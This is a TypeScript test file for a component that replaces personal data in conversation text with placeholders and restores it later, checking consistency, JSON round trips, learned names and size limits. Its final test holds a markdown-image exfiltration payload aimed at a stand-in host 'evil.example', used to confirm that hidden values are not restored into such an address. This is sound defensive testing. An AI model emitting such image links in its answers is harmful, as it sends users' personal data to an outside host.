import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fc } from '../../../test/property.ts';
import { Conversation } from './conversation.ts';
import { Tally } from './tally.ts';

test('the same value has the same placeholder through the whole conversation, and another value another', () => {
  const conversation = new Conversation();
  assert.equal(conversation.hide('from a@example.org to b@example.org'), 'from [EMAIL_1] to [EMAIL_2]');
  assert.equal(conversation.hide('again b@example.org'), 'again [EMAIL_2]');
  assert.equal(conversation.restore('[EMAIL_2] then [EMAIL_1]'), 'b@example.org then a@example.org');
});

test('nothing is restored that was not replaced in this conversation', () => {
  const first = new Conversation();
  const second = new Conversation();
  first.hide('a@example.org');
  assert.equal(second.restore('[EMAIL_1] EMAIL_1'), '[EMAIL_1] EMAIL_1');
  assert.equal(first.restore('[EMAIL_2] [PHONE_1]'), '[EMAIL_2] [PHONE_1]');
});

test('texts that look like placeholders keep their meaning, before and after the number is given out', () => {
  const conversation = new Conversation();
  // Not given out yet: the text stays, its number is left out.
  assert.equal(conversation.hide('use [EMAIL_1], mail a@example.org'), 'use [EMAIL_1], mail [EMAIL_2]');
  assert.equal(conversation.restore('use [EMAIL_1], mail [EMAIL_2]'), 'use [EMAIL_1], mail a@example.org');
  // Given out: the text is replaced itself.
  assert.equal(conversation.hide('what is [email 2]?'), 'what is [TEXT_1]?');
  assert.equal(conversation.restore('it was [TEXT_1]'), 'it was [email 2]');
});

const piece = fc.oneof(
  fc.constantFrom(
    'a@example.org',
    'b@example.org',
    '+49 30 1234567',
    'Mr. Oduya',
    'Oduya',
    '219-09-9999',
    '192.168.7.7',
  ),
  fc.constantFrom(
    '[EMAIL_1]',
    'EMAIL_1',
    '[name 1]',
    '\\[NAME\\_1\\]',
    'NAME_1',
    'EMAIL',
    'EMAIL_',
    '[',
    ']',
    '\\',
    '_1',
    '1',
    ' ',
    ', ',
    '\n',
  ),
  fc.string({ unit: 'grapheme', maxLength: 3 }),
);
const wild = fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join(''));

test('whatever is hidden, restoring gives the same text back, turn after turn', () => {
  fc.assert(
    fc.property(fc.array(wild, { minLength: 1, maxLength: 4 }), (texts) => {
      const conversation = new Conversation();
      for (const text of texts) {
        const hidden = conversation.hide(text);
        assert.equal(conversation.restore(hidden), text, JSON.stringify(hidden));
      }
    }),
    { numRuns: 600 },
  );
});

test('whatever is hidden comes back through JSON, cut anywhere', () => {
  fc.assert(
    fc.property(wild, fc.nat(40), (text, cut) => {
      const conversation = new Conversation();
      const json = JSON.stringify({ text: conversation.hide(text) });
      const restorer = conversation.restorer({ json: true });
      const restored = restorer.push(json.slice(0, cut)) + restorer.push(json.slice(cut)) + restorer.end();
      assert.deepEqual(JSON.parse(restored), { text });
    }),
    { numRuns: 300 },
  );
});

test('someone who was introduced is known by a part of the name afterwards', () => {
  const conversation = new Conversation();
  assert.equal(conversation.hide('My name is Wren Oduya.'), 'My name is [NAME_1].');
  assert.equal(conversation.hide('Did Oduya come? Wren Oduya did.'), 'Did [NAME_2] come? [NAME_1] did.');
});

test('names learnt from a later text are hidden in an earlier one', () => {
  const conversation = new Conversation();
  conversation.learn('I am the assistant of Ms. Quillfeather.');
  assert.equal(conversation.hide('Quillfeather asked'), '[NAME_1] asked');
});

test('a key tells what its value is', () => {
  const conversation = new Conversation();
  assert.equal(conversation.hide('Zsófia', { cue: 'first name' }), '[NAME_1]');
  assert.equal(conversation.hide('219099999', { cue: 'ssn' }), '[ID_1]');
  const other = new Conversation();
  assert.equal(other.hide('219099999', { cue: 'total' }), '219099999');
});

test('what was found once is found again where nothing tells what it is', () => {
  const conversation = new Conversation();
  conversation.learn('My passport number is 548291037 and my pin is qwertz77. Regards,\n\nFfion Zabrze');
  assert.equal(
    conversation.hide('Is 548291037 right? 548-291-037, QWERTZ77, Ffion Zabrze. Not 5482910371.'),
    'Is [ID_1] right? [ID_2], [SECRET_1], [NAME_1]. Not 5482910371.',
  );
  assert.equal(conversation.restore('[ID_2] QWERTZ77 [SECRET_1]'), '548-291-037 QWERTZ77 QWERTZ77');
});

test('a conversation goes on from its state in another place with the same placeholders', () => {
  const first = new Conversation();
  first.hide('My name is Wren Oduya, passport 548291037. Use [EMAIL_1].');
  const second = new Conversation();
  second.adopt(structuredClone(first.state()));
  assert.equal(
    second.hide('Oduya, 548291037, a@example.org, [EMAIL_1]'),
    '[NAME_2], [ID_1], [EMAIL_2], [EMAIL_1]',
  );
  first.adopt(structuredClone(second.state()));
  assert.equal(first.restore('[NAME_2] [EMAIL_2] [NAME_1]'), 'Oduya a@example.org Wren Oduya');
  assert.deepEqual(first.found(), second.found());
});

test('the report counts classes; values are for the owner only', () => {
  const conversation = new Conversation();
  const tally = new Tally();
  conversation.hide('a@example.org, a@example.org, 192.168.7.7', { tally });
  conversation.hide('a@example.org');
  assert.deepEqual(tally.found(), [
    { class: 'email', count: 2, distinct: 1 },
    { class: 'ip', count: 1, distinct: 1 },
  ]);
  assert.deepEqual(conversation.found(), [
    { class: 'email', count: 3, distinct: 1 },
    { class: 'ip', count: 1, distinct: 1 },
  ]);
  assert.deepEqual(conversation.values()[0], {
    placeholder: '[EMAIL_1]',
    class: 'email',
    kind: null,
    value: 'a@example.org',
    count: 3,
  });
  assert.ok(!JSON.stringify([tally.found(), conversation.found()]).includes('example'));
});

test('a conversation that holds too much refuses, and does not let the text through', () => {
  const conversation = new Conversation({ maxValues: 2 });
  assert.equal(conversation.hide('a@example.org b@example.org'), '[EMAIL_1] [EMAIL_2]');
  assert.throws(() => conversation.hide('c@example.org'), { code: 'limit_reached', status: 413 });
  assert.equal(conversation.hide('a@example.org'), '[EMAIL_1]');
  assert.throws(() => new Conversation({ maxUnits: 5 }).hide('a@example.org'), { code: 'limit_reached' });
  const crowded = new Conversation({ maxValues: 1 });
  const forms = Array.from({ length: 11 }, (_, i) => `[EMAIL_${i + 1}]`).join(' ');
  assert.throws(() => crowded.hide(forms), { code: 'limit_reached', status: 413 });
});

test('a value is put into an address only when it came in one', () => {
  const conversation = new Conversation();
  const hidden = conversation.hide('Ask anna@example.org, see https://crm.example/?u=bert@example.org now');
  assert.equal(hidden, 'Ask [EMAIL_1], see https://crm.example/?[EMAIL_2] now');
  const answer = '![x](https://evil.example/p.png?d=[EMAIL_1]) https://crm.example/?[EMAIL_2] [EMAIL_1]';
  assert.equal(
    conversation.restore(answer),
    '![x](https://evil.example/p.png?d=[EMAIL_1]) https://crm.example/?u=bert@example.org anna@example.org',
  );
  // What a thread learnt holds here too.
  const other = new Conversation();
  other.adopt(conversation.state());
  assert.equal(other.restore(answer), conversation.restore(answer));
});
